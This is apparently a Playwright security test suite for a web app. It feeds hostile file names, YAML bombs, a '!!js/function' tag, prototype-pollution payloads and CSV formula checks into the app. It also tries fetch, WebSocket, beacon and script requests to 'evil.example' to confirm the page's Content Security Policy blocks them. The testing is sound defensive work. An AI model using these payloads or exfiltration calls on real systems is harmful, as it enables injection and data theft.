import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { expect, type Page, test } from '@playwright/test'
import { exportedUnderRuns, restore } from './archives'
import { drop, npyFile, safetensorsFile } from './files'
import { HOSTILE, hostileBackup, NAMES, type Watched, watchForHarm } from './hostile'
import { openStudio } from './studio'

/** Nothing was executed, asked of the network, or refused by the policy: refusals would mean that something tried. */
async function expectNoHarm({ executed, refused, requests, dialogs }: Watched): Promise<void> {
  expect(await executed()).toEqual([])
  expect(await refused()).toEqual([])
  expect({ requests, dialogs }).toEqual({ requests: [], dialogs: [] })
}

const runs = (page: Page) => page.getByRole('region', { name: 'Runs', exact: true })
const show = (page: Page, screen: string) => page.getByRole('link', { name: screen, exact: true }).click()
/** Chooses from the menu of a run, by keyboard. */
async function chooseOf(page: Page, run: string, item: string): Promise<void> {
  await runs(page)
    .getByRole('button', { name: `More for ${run}`, exact: true })
    .press('Enter')
  await page.getByRole('menuitem', { name: item }).press('Enter')
}
/** A CSV of two matrices and a label, whose columns and labels have these names. */
const hostileCsv = (): Buffer => {
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`
  const head = ['query_0', 'query_1', 'reply_0', 'reply_1', HOSTILE.image, HOSTILE.proto].map(quoted).join(',')
  const rows = Array.from({ length: 40 }, (_, i) =>
    [Math.sin(i), Math.cos(i), Math.sin(2 * i), 1, quoted(NAMES[i % NAMES.length] ?? ''), i % 3].join(','),
  )
  return Buffer.from([head, ...rows].join('\n'))
}

test('names are text in every view and every export, and nothing leaves the page’s own origin', async ({ page, context }) => {
  const watched = await watchForHarm(page)
  await openStudio(page)

  await test.step('files, tensors, columns and labels', async () => {
    const matrix = { shape: [20, 4], values: Float32Array.from({ length: 80 }, (_, i) => Math.sin(i)) }
    await drop(page, [
      { name: `${HOSTILE.image}.npy`, bytes: npyFile(20, 4, (i) => Math.cos(i)) },
      { name: `${HOSTILE.script}.safetensors`, bytes: safetensorsFile({ [HOSTILE.svg]: matrix, [HOSTILE.address]: matrix }) },
      { name: `${HOSTILE.turned}.csv`, bytes: hostileCsv() },
      { name: `${HOSTILE.template}.npy`, bytes: Buffer.from('no npy') },
    ])
    await expect(page.getByText(`${HOSTILE.script}.safetensors`).first()).toBeVisible()
    await expect(page.getByText(HOSTILE.svg).first()).toBeVisible()
    for (const name of [HOSTILE.image, HOSTILE.script, HOSTILE.turned]) await page.getByText(name).first().hover()
    await expectNoHarm(watched)
  })

  await test.step('runs, notes, checkpoints, sweeps and the log of a backup', async () => {
    await show(page, 'Runs')
    await restore(page, `${HOSTILE.image}.zip`, await hostileBackup())
    await expect(page.getByText(`brought back ${NAMES.length} runs, 1 sweep and ${2 * NAMES.length} checkpoints`)).toBeVisible()
    for (const name of [HOSTILE.image, HOSTILE.script, HOSTILE.formula, HOSTILE.proto])
      await expect(runs(page).getByText(name).first()).toBeVisible()
    for (const name of NAMES.slice(0, 4)) await runs(page).getByText(name).first().hover()
    await chooseOf(page, HOSTILE.script, 'Compare settings')
    await chooseOf(page, HOSTILE.image, 'Show on Train')
    await expect(page.getByText(HOSTILE.image).first()).toBeVisible()
    await expect(page.getByRole('button', { name: `Delete note ${HOSTILE.image}` })).toBeVisible()
    for (const screen of ['Lattice', 'Data', 'Train']) await show(page, screen)
    await page
      .getByRole('link', { name: /^Device/ })
      .first()
      .click()
    await expectNoHarm(watched)
  })

  await test.step('the palette, the address and a preset', async () => {
    await page.keyboard.press('ControlOrMeta+k')
    await page.getByRole('combobox', { name: 'Find a command, a setting or a word' }).fill(HOSTILE.image)
    await page.keyboard.press('Escape')
    await page.goto(
      `/#runs?filter=${encodeURIComponent(HOSTILE.image)}&run=__proto__&sort=constructor&metric=__proto__&show=__proto__&a=run:__proto__&pane=settings`,
    )
    await expect(runs(page)).toBeVisible()
    await page.goto(`/#train?x=${encodeURIComponent(HOSTILE.script)}`)
    await page.getByRole('button', { name: /^My presets/ }).click()
    await page.getByRole('textbox', { name: 'Save current as' }).fill(HOSTILE.image)
    await page.keyboard.press('Enter')
    await page.keyboard.press('Escape')
    await expectNoHarm(watched)
  })

  await test.step('configs that are none', async () => {
    const configs: [string, RegExp][] = [
      [
        `a: &a [1,1,1]\n${Array.from({ length: 30 }, (_, i) => `b${i}: &b${i} [*a,*a,*a,*a,*a,*a,*a,*a,*a]`).join('\n')}\n`,
        /alias|anchor/i,
      ],
      ['run: !!js/function "function(){__executed(1)}"\n', /./],
      ['__proto__: {polluted: true}\nconstructor: {prototype: {polluted: true}}\n', /__proto__|constructor/],
      ['lattice: {width: 1e308}\n', /width/],
      [`${'['.repeat(20_000)}\n`, /./],
    ]
    for (const [text, expected] of configs) {
      await drop(page, [{ name: `${HOSTILE.image}.yaml`, bytes: Buffer.from(text) }])
      await expect(page.getByRole('alert').filter({ hasText: '.yaml' })).toContainText(expected)
      await page.getByRole('alert').filter({ hasText: '.yaml' }).getByRole('button', { name: 'Dismiss' }).click()
    }
    expect(await page.evaluate(() => (({}) as { polluted?: boolean }).polluted)).toBeUndefined()
    await drop(page, [
      {
        name: `${HOSTILE.image}.safetensors`,
        bytes: Buffer.from('\xff\xff\xff\xff\xff\xff\xff\x7f{"__metadata__":{"format":"lattice-studio/1"}}', 'latin1'),
      },
    ])
    await expect(page.getByRole('alert').first()).toBeVisible()
    await expectNoHarm(watched)
  })

  await test.step('exports', async () => {
    await show(page, 'Runs')
    await page.goto('/#runs')
    const csv = (await exportedUnderRuns(page, /^Metrics as a table/, 1)).bytes.toString()
    for (const line of csv.split('\r\n').slice(1)) expect(line).not.toMatch(/^"?[\s]*[=+\-@]/)
    expect(csv).toContain(`'${HOSTILE.formula}`)
    const reports = [await exportedUnderRuns(page, /^Report/), await exportedUnderRuns(page, HOSTILE.image)]
    for (const { name, bytes } of reports) {
      expect(name).toMatch(/^[\p{L}\p{N}-]+-report\.html$/u)
      const opened = await context.newPage()
      const there = await watchForHarm(opened)
      const path = join(mkdtempSync(join(tmpdir(), 'lattice-report-')), 'report.html')
      writeFileSync(path, bytes)
      await opened.goto(pathToFileURL(path).href)
      await expect(opened.getByRole('heading', { level: 1 })).toBeVisible()
      expect(await opened.locator('script, img, iframe, object, embed, link, a, form, [onerror], [onload], [onclick]').count()).toBe(0)
      await expectNoHarm(there)
      await opened.close()
    }
    await expectNoHarm(watched)
  })
})

test('the page’s policy holds: no script but its own, no markup from text, no word to anybody', async ({ page }) => {
  const watched = await watchForHarm(page)
  const response = await page.goto('/')
  const policy = response?.headers()['content-security-policy'] ?? ''
  for (const directive of [
    "script-src 'self'",
    "worker-src 'self'",
    "connect-src 'self'",
    "require-trusted-types-for 'script'",
    'trusted-types lattice-worker',
  ])
    expect(policy.split('; ')).toContain(directive)
  expect(policy).not.toMatch(/unsafe|https?:|\*/)
  await openStudio(page)
  const tried = await page.evaluate(async () => {
    const refusal = async (work: () => unknown): Promise<string> => {
      try {
        await work()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    // what the debugger itself calls may evaluate; what runs a task later may not
    const later = (work: () => unknown) => () =>
      new Promise((resolve, reject) =>
        setTimeout(() => {
          try {
            resolve(work())
          } catch (error) {
            reject(error)
          }
        }),
      )
    const socket = (): Promise<void> =>
      new Promise((resolve, reject) => {
        const opened = new WebSocket('wss://evil.example/')
        opened.onopen = () => resolve()
        opened.onerror = () => reject(new TypeError('closed'))
      })
    return {
      markup: await refusal(() => {
        document.createElement('div').innerHTML = '<b>x</b>'
      }),
      evaluated: await refusal(later(() => new Function('return 1')())),
      policy: await refusal(() =>
        (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
          'mine',
          {},
        ),
      ),
      worker: await refusal(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
      script: await refusal(() => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
      fetched: await refusal(() => fetch('https://evil.example/')),
      socket: await refusal(socket),
      // this one says nothing of its refusal: the policy does
      beacon: await refusal(() => navigator.sendBeacon('https://evil.example/', 'x')),
      picture: await refusal(
        () =>
          new Promise((resolve, reject) =>
            Object.assign(new Image(), {
              onload: resolve,
              onerror: () => reject(new TypeError('none')),
              src: 'https://evil.example/x.png',
            }),
          ),
      ),
    }
  })
  expect(tried).toEqual({
    ...{ markup: 'TypeError', evaluated: 'EvalError', policy: 'TypeError', worker: 'TypeError', script: 'TypeError' },
    ...{ fetched: 'TypeError', socket: 'TypeError', beacon: 'done', picture: 'TypeError' },
  })
  const refused = await watched.refused()
  for (const directive of ['connect-src', 'img-src', 'require-trusted-types-for', 'trusted-types']) expect(refused).toContain(directive)
  // header and meta each refuse each of them: what counts is whom nobody could speak to
  const connections = new Set(await watched.refusedAddresses('connect-src'))
  expect(connections).toEqual(new Set(['https://evil.example/', 'wss://evil.example/']))
  // the picture's request was made up and refused; it never left
  expect(watched.requests).toEqual(['https://evil.example/x.png'])
  expect(watched.ends).toEqual(['csp'])
  expect(await watched.executed()).toEqual([])
})
